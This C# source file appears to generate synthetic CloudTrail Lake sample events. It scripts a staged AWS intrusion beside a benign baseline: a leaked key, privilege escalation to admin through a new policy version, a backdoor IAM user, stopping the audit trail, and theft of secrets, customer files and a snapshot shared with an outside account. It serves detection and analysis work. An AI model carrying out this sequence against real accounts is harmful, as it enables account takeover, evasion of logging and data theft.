using CloudTrailLake.Samples.Calls;
using static CloudTrailLake.Samples.ApiCall;

namespace CloudTrailLake.Samples.Intrusion;

/// <summary>
/// What happens, call by call: someone uses a leaked access key, looks around, gives themselves more rights, makes a user to stay, stops the trail, and takes secrets
/// and customer data.
/// </summary>
internal static class IntrusionScript
{
    private const string Self = """{"userName":"svc-reports-export"}""";
    private const string Admin = "arn:aws:iam::aws:policy/AdministratorAccess";

    /// <summary>The stages in order, each with its calls.</summary>
    public static IEnumerable<(string Stage, IReadOnlyList<StoryStep> Steps)> Stages(StoryCast cast)
    {
        var key = cast.Intruder;
        var backdoor = cast.Backdoor;
        yield return ("leaked key", [Step(key, IdentityCalls.Sts, Read("GetCallerIdentity", 1))]);
        yield return ("discovery", Discovery(key));
        yield return ("privilege escalation", Escalation(key));
        yield return ("persistence", Persistence(key));
        yield return ("defence evasion", Evasion(backdoor));
        yield return ("data taken", Exfiltration(backdoor));
    }

    /// <summary>What the key's owner does with it: nightly exports.</summary>
    public static IReadOnlyList<StoryStep> OrdinaryDay(StoryCast cast) =>
    [
        Step(cast.Owner, IdentityCalls.Sts, Read("GetCallerIdentity", 1)),
        Step(cast.Owner, StorageCalls.S3, List("reports/")),
        Step(cast.Owner, StorageCalls.S3, Write("PutObject", 1, $$"""{"bucketName":"{{StoryCast.Bucket}}","key":"reports/$day$/part-$number4$.csv"}""") with { Data = true, Resources = ObjectResources("reports/$day$/part.csv") }) with { Times = 24, Pace = 15 },
    ];

    private static List<StoryStep> Discovery(Actor key) =>
    [
        Step(key, IdentityCalls.Iam, Read("GetUser", 1)),
        Step(key, IdentityCalls.Iam, Read("ListAttachedUserPolicies", 1, Self)),
        Step(key, IdentityCalls.Iam, Read("ListUserPolicies", 1, Self)),
        Step(key, IdentityCalls.Iam, Read("GetPolicyVersion", 1, """{"policyArn":"arn:aws:iam::$account$:policy/reports-export","versionId":"v1"}""")),
        Denied(key, IdentityCalls.Iam, Read("ListUsers", 1)) with { Times = 2 },
        Denied(key, IdentityCalls.Iam, Read("ListRoles", 1)) with { Times = 2 },
        Denied(key, IdentityCalls.Iam, Read("GetAccountAuthorizationDetails", 1)),
        Step(key, StorageCalls.S3, Read("ListBuckets", 1)),
        Step(key, StorageCalls.S3, Read("GetBucketAcl", 1, """{"bucketName":"$bucket$","acl":""}""")) with { Times = 14, Pace = 3 },
        Denied(key, StorageCalls.S3, Read("GetBucketPolicy", 1, """{"bucketName":"$bucket$","policy":""}""")) with { Times = 9, Pace = 3 },
        Denied(key, ComputeCalls.Ec2, Read("DescribeInstances", 1, """{"instancesSet":{},"filterSet":{}}""")) with { Times = 4, Pace = 4 },
        Denied(key, ComputeCalls.Ec2, Read("DescribeSnapshots", 1, """{"ownersSet":{"items":[{"owner":"self"}]},"filterSet":{}}""")),
        Denied(key, OperationsCalls.Rds, Read("DescribeDBInstances", 1)) with { Times = 2 },
        Denied(key, ComputeCalls.Lambda, Read("ListFunctions20150331", 1)),
        Denied(key, OperationsCalls.SecretsManager, Read("ListSecrets", 1)) with { Times = 2 },
        Denied(key, StorageCalls.DynamoDb, Read("ListTables", 1)),
        Denied(key, IdentityCalls.Kms, Read("ListKeys", 1)),
        Step(key, OperationsCalls.CloudTrail, Read("DescribeTrails", 1, """{"trailNameList":[]}""")),
    ];

    private static List<StoryStep> Escalation(Actor key) =>
    [
        Denied(key, IdentityCalls.Iam, Write("AttachUserPolicy", 1, $$"""{"userName":"svc-reports-export","policyArn":"{{Admin}}"}""")) with { Times = 2 },
        Denied(key, IdentityCalls.Iam, Write("PutUserPolicy", 1, """{"userName":"svc-reports-export","policyName":"tmp","policyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}""")),
        Denied(key, IdentityCalls.Sts, Read("AssumeRole", 1, """{"roleArn":"arn:aws:iam::$account$:role/OrganizationAccountAccessRole","roleSessionName":"tmp"}""")) with { Times = 3 },
        Step(key, IdentityCalls.Iam, Write("CreatePolicyVersion", 1, """{"policyArn":"arn:aws:iam::$account$:policy/reports-export","setAsDefault":true,"policyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}""", """{"policyVersion":{"versionId":"v2","isDefaultVersion":true,"createDate":"$timetext$"}}""")),
        Step(key, IdentityCalls.Iam, Write("AttachUserPolicy", 1, $$"""{"userName":"svc-reports-export","policyArn":"{{Admin}}"}""")),
    ];

    private static List<StoryStep> Persistence(Actor key) =>
    [
        Step(key, IdentityCalls.Iam, Write("CreateUser", 1, """{"userName":"svc-backup-sync","path":"/"}""", """{"user":{"path":"/","userName":"svc-backup-sync","userId":"AIDA$id17$","arn":"arn:aws:iam::$account$:user/svc-backup-sync","createDate":"$timetext$"}}""")),
        Step(key, IdentityCalls.Iam, Write("AttachUserPolicy", 1, $$"""{"userName":"svc-backup-sync","policyArn":"{{Admin}}"}""")),
        Step(key, IdentityCalls.Iam, Write("CreateAccessKey", 1, """{"userName":"svc-backup-sync"}""", $$"""{"accessKey":{"accessKeyId":"{{StoryCast.BackdoorKey}}","status":"Active","userName":"svc-backup-sync","createDate":"$timetext$"} }""" )),
        Step(key, IdentityCalls.Iam, Write("CreateLoginProfile", 1, """{"userName":"svc-backup-sync","passwordResetRequired":false}""", """{"loginProfile":{"userName":"svc-backup-sync","createDate":"$timetext$","passwordResetRequired":false}}""")),
    ];

    private static List<StoryStep> Evasion(Actor backdoor) =>
    [
        Step(backdoor, IdentityCalls.Sts, Read("GetCallerIdentity", 1)),
        Step(backdoor, OperationsCalls.CloudTrail, Read("DescribeTrails", 1, """{"trailNameList":[]}""")),
        Step(backdoor, OperationsCalls.CloudTrail, Write("PutEventSelectors", 1, """{"trailName":"org-trail","eventSelectors":[{"readWriteType":"ReadOnly","includeManagementEvents":true,"dataResources":[],"excludeManagementEventSources":[]}]}""", """{"trailARN":"arn:aws:cloudtrail:us-east-1:$account$:trail/org-trail"}""")),
        Step(backdoor, OperationsCalls.CloudTrail, Write("StopLogging", 1, """{"name":"org-trail"}""")),
    ];

    private static List<StoryStep> Exfiltration(Actor backdoor) =>
    [
        Step(backdoor, OperationsCalls.SecretsManager, Read("ListSecrets", 1)),
        Step(backdoor, OperationsCalls.SecretsManager, Read("GetSecretValue", 1, """{"secretId":"arn:aws:secretsmanager:$region$:$account$:secret:$secret$"}""")) with { Times = 11, Pace = 4 },
        Step(backdoor, StorageCalls.S3, List("customers/")) with { Times = 6, Pace = 2 },
        Step(backdoor, StorageCalls.S3, Read("GetObject", 1, $$"""{"bucketName":"{{StoryCast.Bucket}}","key":"customers/export-$number4$.csv.gz"}""") with { Data = true, Resources = ObjectResources("customers/export.csv.gz") }) with { Times = 240, Pace = 2 },
        Step(backdoor, ComputeCalls.Ec2, Write("CreateSnapshot", 1, """{"volumeId":"$volume$"}""", """{"requestId":"$uuid$","snapshotId":"snap-0c4d5e6f708192a3b","volumeId":"$volume$","status":"pending","startTime":$timemillis$,"ownerId":"$account$"}""")),
        Step(backdoor, ComputeCalls.Ec2, Write("ModifySnapshotAttribute", 1, """{"snapshotId":"snap-0c4d5e6f708192a3b","createVolumePermission":{"add":{"items":[{"userId":"999988887777"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}""", """{"requestId":"$uuid$","_return":true}""")),
    ];

    private static ApiCall List(string prefix) =>
        Read("ListObjects", 1, $$"""{"list-type":"2","bucketName":"{{StoryCast.Bucket}}","prefix":"{{prefix}}"}""") with
        {
            Data = true,
            Resources = $$"""[{"type":"AWS::S3::Object","ARNPrefix":"arn:aws:s3:::{{StoryCast.Bucket}}/{{prefix}}"},{"accountId":"$account$","type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::{{StoryCast.Bucket}}"}]""",
        };

    private static string ObjectResources(string key) =>
        $$"""[{"type":"AWS::S3::Object","ARN":"arn:aws:s3:::{{StoryCast.Bucket}}/{{key}}"},{"accountId":"$account$","type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::{{StoryCast.Bucket}}"}]""";

    private static StoryStep Step(Actor actor, ApiService service, ApiCall call) => new(actor, service, call);

    private static StoryStep Denied(Actor actor, ApiService service, ApiCall call) => new(actor, service, call) { Denied = true };
}
